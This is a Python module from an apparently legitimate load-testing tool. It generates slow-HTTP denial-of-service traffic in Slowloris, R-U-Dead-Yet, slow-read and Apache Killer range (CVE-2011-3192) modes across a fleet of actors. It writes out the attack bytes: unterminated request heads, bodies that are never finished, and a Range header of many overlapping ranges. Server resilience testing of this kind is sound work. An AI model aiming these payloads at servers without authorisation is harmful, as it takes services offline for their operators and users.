"""``assay loris``'s attack as data: the plan, the bytes each mode sends, the counters.

How this works: ``coordinator.loris_cli`` turns the flags into a ``LorisPlan``, which
travels to every actor as plain data. Connection ``j`` (0..N-1) is due ``j / rate`` after
the start and belongs to the actor whose rank is ``j mod count``, so the fleet together
opens exactly ``rate`` connections a second (slowhttptest's ``-r``). Each connection sends
``opening`` at once and then, every ``interval``, ``drip`` (headers and body modes) or
reads one byte (read and range modes), until the server ends it or the attack is over.
What happened to each connection is counted in the cumulative ``loris.*`` counters
below; ``LorisCounts`` turns merged counters back into the figures slowhttptest prints
(``connecting`` and ``still_open`` are derived, never counted).

Pure: no sockets, no clock. Randomness comes from the caller's seeded ``random.Random``
(one per connection, drawn from the walker's), so ``--seed`` replays the bytes.
"""

from __future__ import annotations

import enum
import errno
import math
import random
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any

from protocols.http1 import build_request

#: Most drips one connection sends (the attack's end bounds it first in any sane run).
MAX_DRIPS = 100_000
#: Longest body-mode drip; slowhttptest sends up to 32 bytes (``-x``), a few is enough.
MAX_BODY_DRIP = 8
#: The User-Agent every attack connection sends (so a server log tells them apart).
USER_AGENT = "assay-loris/1"
#: Read and range modes: the receive buffer asked of the kernel (it rounds up to its
#: minimum, about 2 KiB on Linux), set before connect so the advertised window is tiny.
SLOW_READ_RCVBUF = 1
#: Headers and body modes: a small buffer (an answer is a short error page at most).
RCVBUF = 4096

# -- counters (cumulative, summed over actors) ------------------------------------------
OPENED = "loris.opened"
CONNECTED = "loris.connected"
CONNECT_FAILED = "loris.connect_failed"
#: The server ended a connection: FIN, or a complete answer (a 408 or 400 included).
CLOSED_BY_SERVER = "loris.closed_by_server"
#: The connection broke with RST (or an error that means the same) after connect.
RESET = "loris.reset"
#: ``loris.status.<code>``: answers the server gave to attack connections, by status.
STATUS = "loris.status."
#: Answers that did not parse as HTTP/1.1 (counted, then discarded until the close).
MALFORMED = "loris.malformed"
DRIPS = "loris.drips"
BYTES_SENT = "loris.bytes_sent"
BYTES_READ = "loris.bytes_read"
#: Read and range modes: requests sent again after a whole answer was read (kept alive).
REPEATED = "loris.repeated"
#: Connections of an actor's share beyond its open-file limit: never dialed.
FD_LIMITED = "loris.fd_limited"
#: Due after ``--duration``: the rate was too low to open them all in time; never dialed.
NOT_DUE = "loris.not_due"
#: One per actor whose walker finished (every connection ended, or the attack did).
DONE = "loris.done"


class Mode(enum.Enum):
    """How each attack connection holds a server resource."""

    #: Slowloris (slowhttptest ``-H``): a request head that never ends, one more header
    #: line every interval; a server without a head timeout keeps the connection forever.
    HEADERS = "headers"
    #: R-U-Dead-Yet (slowhttptest ``-B``): a complete POST head announcing a large body,
    #: then a few body bytes every interval; the body is never completed.
    BODY = "body"
    #: Slow read (slowhttptest ``-X``): a complete GET, then a receive window of a few
    #: bytes and one byte read per interval, so the server's writes stall.
    READ = "read"
    #: Apache Killer (CVE-2011-3192, slowhttptest ``-R``): a GET whose Range header asks
    #: for many overlapping ranges, and its answer read as slowly as in ``read``.
    RANGE = "range"

    @property
    def reads_slowly(self) -> bool:
        return self in (Mode.READ, Mode.RANGE)


class ConnectFailure(enum.Enum):
    """Why a dial gave no connection (``loris.connect_failed.<value>``)."""

    #: The SYN was answered with RST: nothing listens, or the listen queue is full and
    #: the kernel refuses (``tcp_abort_on_overflow``): the server is refusing.
    REFUSED = "refused"
    #: The handshake completed and the server reset it before ``connect`` returned.
    RESET = "reset"
    #: No SYN-ACK within the connect timeout (a full queue drops SYNs silently).
    TIMEOUT = "timeout"
    #: Anything else: unreachable, no local port, no descriptor.
    OTHER = "other"

    @property
    def counter(self) -> str:
        return f"{CONNECT_FAILED}.{self.value}"

    @property
    def refusing(self) -> bool:
        """The server turned the connection away (rather than the path or the load host)."""
        return self in (ConnectFailure.REFUSED, ConnectFailure.RESET)


def connect_failure(exc: OSError) -> ConnectFailure:
    """Classify a failed ``connect`` (our own deadline is ``TIMEOUT``, by the caller)."""
    if isinstance(exc, ConnectionRefusedError) or exc.errno == errno.ECONNREFUSED:
        return ConnectFailure.REFUSED
    if isinstance(exc, ConnectionResetError) or exc.errno == errno.ECONNRESET:
        return ConnectFailure.RESET
    if isinstance(exc, TimeoutError) or exc.errno == errno.ETIMEDOUT:
        return ConnectFailure.TIMEOUT
    return ConnectFailure.OTHER


def ending_of(exc: OSError) -> str:
    """The counter for a connection that broke on a read or write: a write to a socket
    the server already closed (EPIPE) is the server's close; anything else is a reset."""
    if isinstance(exc, BrokenPipeError) or exc.errno == errno.EPIPE:
        return CLOSED_BY_SERVER
    return RESET


@dataclass(frozen=True)
class LorisPlan:
    """What ``assay loris`` was asked to do; every duration in seconds, rates per second."""

    mode: Mode
    connections: int
    rate: float
    interval_s: float
    duration_s: float
    path: str = "/"
    #: Body mode: the Content-Length announced (slowhttptest ``-s``).
    body_length: int = 8192
    #: Range mode: overlapping ranges after ``0-`` (``5-0,5-1,...``).
    ranges: int = 1000
    connect_timeout_s: float = 10.0
    #: The control traffic: requests per second, for the last ``control_duration_s`` of
    #: the attack, judged against ``threshold_control`` percent succeeded.
    control_rate: float = 100.0
    control_duration_s: float = 0.0
    threshold_control: float = 95.0

    @property
    def control_start_s(self) -> float:
        return max(0.0, self.duration_s - self.control_duration_s)

    def due_s(self, index: int) -> float:
        return index / self.rate

    def share(self, rank: int, count: int) -> range:
        """The connections actor ``rank`` of ``count`` opens (every ``count``-th)."""
        return range(rank, self.connections, max(1, count))

    @property
    def dialed_in_time(self) -> int:
        """Connections due before the end of ``--duration`` (the others are never dialed)."""
        return min(self.connections, math.ceil(self.duration_s * self.rate - 1e-9))

    def to_wire(self) -> dict[str, Any]:
        return {"mode": self.mode.value, "connections": self.connections, "rate": self.rate,
                "interval_s": self.interval_s, "duration_s": self.duration_s,
                "path": self.path, "body_length": self.body_length, "ranges": self.ranges,
                "connect_timeout_s": self.connect_timeout_s,
                "control_rate": self.control_rate,
                "control_duration_s": self.control_duration_s,
                "threshold_control": self.threshold_control}

    @classmethod
    def from_wire(cls, data: Mapping[str, Any]) -> LorisPlan:
        return cls(Mode(data["mode"]), int(data["connections"]), float(data["rate"]),
                   float(data["interval_s"]), float(data["duration_s"]), str(data["path"]),
                   int(data["body_length"]), int(data["ranges"]),
                   float(data["connect_timeout_s"]), float(data["control_rate"]),
                   float(data["control_duration_s"]), float(data["threshold_control"]))


# -- the bytes ----------------------------------------------------------------------------
def range_header(count: int) -> str:
    """``bytes=0-,5-0,5-1,...``: the whole entity plus ``count`` overlapping ranges (the
    Apache Killer shape; a server that builds every part multiplies its work and memory)."""
    return "bytes=0-," + ",".join(f"5-{n}" for n in range(count))


def opening(plan: LorisPlan, host: str) -> bytes:
    """What a connection sends as soon as it is connected.

    Raises:
        RequestBuildError: the path or host cannot be put in a request (the CLI checks
            this before the run, so an actor never sees it).
    """
    agent = [("User-Agent", USER_AGENT), ("Accept", "*/*")]
    if plan.mode is Mode.HEADERS:
        # A valid head so far, without the empty line that would end it.
        return build_request("GET", plan.path, host, agent)[:-2]
    if plan.mode is Mode.BODY:
        head = build_request("POST", plan.path, host, [
            *agent, ("Content-Type", "application/x-www-form-urlencoded")])
        return head.replace(b"Content-Length: 0\r\n",
                            b"Content-Length: %d\r\n" % plan.body_length)
    extra = [("Range", range_header(plan.ranges)), ("Accept-Encoding", "gzip")] \
        if plan.mode is Mode.RANGE else []
    return build_request("GET", plan.path, host, [*agent, *extra,
                                                 ("Connection", "keep-alive")])


def drip(plan: LorisPlan, index: int, rng: random.Random, body_sent: int = 0) -> bytes:
    """The bytes of drip ``index`` (0-based): a header line, or a few body bytes that
    leave at least one byte of the announced body unsent; empty in the modes that read
    slowly instead (and in body mode once only the last byte is left).

    Args:
        body_sent: body mode: the body bytes this connection has sent so far.
    """
    if plan.mode is Mode.HEADERS:
        return b"X-a%d: %d\r\n" % (index, rng.randrange(1, 5000))
    if plan.mode is Mode.BODY:
        room = plan.body_length - 1 - body_sent
        if room <= 0:
            return b""
        piece = b"%c=%d&" % (rng.choice(b"abcdefghijklmnopqrstuvwxyz"), rng.randrange(100))
        return piece[:min(room, MAX_BODY_DRIP)]
    return b""


# -- the counts ---------------------------------------------------------------------------
@dataclass(frozen=True)
class LorisCounts:
    """The fleet's attack figures at one moment, from merged counters."""

    opened: int = 0
    connected: int = 0
    connect_failed: int = 0
    refused: int = 0
    reset_at_connect: int = 0
    timeout: int = 0
    other: int = 0
    closed_by_server: int = 0
    reset: int = 0
    fd_limited: int = 0
    done: int = 0

    @property
    def connecting(self) -> int:
        """Dialed, no answer to the SYN yet (slowhttptest's "pending")."""
        return max(0, self.opened - self.connected - self.connect_failed)

    @property
    def still_open(self) -> int:
        """Connected and not ended by the server (slowhttptest's "connected")."""
        return max(0, self.connected - self.closed_by_server - self.reset)

    @property
    def closed(self) -> int:
        """Ended by the server after connecting, with FIN or RST (slowhttptest's "closed")."""
        return self.closed_by_server + self.reset

    @property
    def refusing(self) -> int:
        """Dials the server turned away (refused, or reset during the handshake)."""
        return self.refused + self.reset_at_connect

    @classmethod
    def from_counters(cls, counters: Mapping[str, int]) -> LorisCounts:
        get = counters.get
        return cls(get(OPENED, 0), get(CONNECTED, 0), get(CONNECT_FAILED, 0),
                   get(ConnectFailure.REFUSED.counter, 0), get(ConnectFailure.RESET.counter, 0),
                   get(ConnectFailure.TIMEOUT.counter, 0), get(ConnectFailure.OTHER.counter, 0),
                   get(CLOSED_BY_SERVER, 0), get(RESET, 0), get(FD_LIMITED, 0), get(DONE, 0))


def status_codes(counters: Mapping[str, int]) -> dict[str, int]:
    """The answers attack connections got, by status code."""
    return {name[len(STATUS):]: value for name, value in sorted(counters.items())
            if name.startswith(STATUS)}
